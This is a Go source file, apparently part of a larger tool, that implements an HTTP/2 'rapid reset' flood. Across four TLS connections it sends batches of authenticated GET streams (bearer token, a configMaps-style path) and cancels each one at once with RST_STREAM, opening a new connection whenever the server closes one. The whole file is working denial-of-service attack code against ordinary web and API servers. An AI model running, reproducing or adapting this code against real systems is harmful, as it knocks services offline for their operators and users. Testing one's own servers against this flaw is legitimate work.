package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"net/url"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const (
	resetConnections = 4
	resetBatch       = 20 // streams that are opened and reset before the next packet
)

// resets opens streams and resets each of them at once. When the server closes a connection, it
// opens another one.
func resets(ctx context.Context, t *target, count *tally) error {
	var all sync.WaitGroup
	for i := range resetConnections {
		all.Go(func() {
			for ctx.Err() == nil {
				if err := resetStreams(ctx, t, t.at(i)+configMaps, count); err != nil {
					count.broke()
				}
			}
		})
	}
	all.Wait()
	return nil
}

// resetStreams opens and resets streams on one connection.
func resetStreams(ctx context.Context, t *target, path string, count *tally) error {
	u, err := url.Parse(t.URL)
	if err != nil {
		return err
	}
	config := t.tls()
	config.NextProtos = []string{"h2"}
	raw, err := (&tls.Dialer{Config: config}).DialContext(ctx, "tcp", u.Host)
	if err != nil {
		return err
	}
	defer raw.Close()
	stop := context.AfterFunc(ctx, func() { _ = raw.Close() }) // ends reading and writing
	defer stop()
	c := &resetConnection{conn: raw, out: bufio.NewWriter(raw)}
	if _, err := io.WriteString(raw, http2.ClientPreface); err != nil {
		return err
	}
	c.frames = http2.NewFramer(c.out, bufio.NewReader(raw))
	c.frames.ReadMetaHeaders = nil
	if err := c.frames.WriteSettings(); err != nil {
		return err
	}
	var reader sync.WaitGroup
	reader.Go(c.read)
	defer reader.Wait()
	defer raw.Close() // ends the reader
	headers := encodeHeaders(u.Host, path, t.Token)
	for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 * resetBatch {
		if err := c.batch(id, headers); err != nil {
			return err
		}
		for range resetBatch {
			count.sent()
		}
	}
	return nil
}

// resetConnection is a connection to which two goroutines write frames.
type resetConnection struct {
	conn   net.Conn
	mu     sync.Mutex // guards writes
	out    *bufio.Writer
	frames *http2.Framer
}

// batch opens and resets streams, beginning with an id.
func (c *resetConnection) batch(id uint32, headers []byte) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	for range resetBatch {
		err := c.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true, EndStream: true})
		if err != nil {
			return err
		}
		if err := c.frames.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
		id += 2
	}
	return c.out.Flush()
}

// read answers pings and settings until the connection ends.
func (c *resetConnection) read() {
	defer c.conn.Close()
	for {
		f, err := c.frames.ReadFrame()
		if err != nil {
			return
		}
		c.mu.Lock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				err = c.frames.WriteSettingsAck()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				err = c.frames.WritePing(true, f.Data)
			}
		case *http2.GoAwayFrame:
			err = io.EOF
		}
		if err == nil {
			err = c.out.Flush()
		}
		c.mu.Unlock()
		if err != nil {
			return
		}
	}
}

// encodeHeaders returns the header block of a GET. It uses no dynamic table, so that each
// stream can send it.
func encodeHeaders(host, path, token string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	e.SetMaxDynamicTableSizeLimit(0)
	e.SetMaxDynamicTableSize(0)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", path}, {"authorization", "Bearer " + token}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true}) // to a buffer
	}
	return b.Bytes()
}
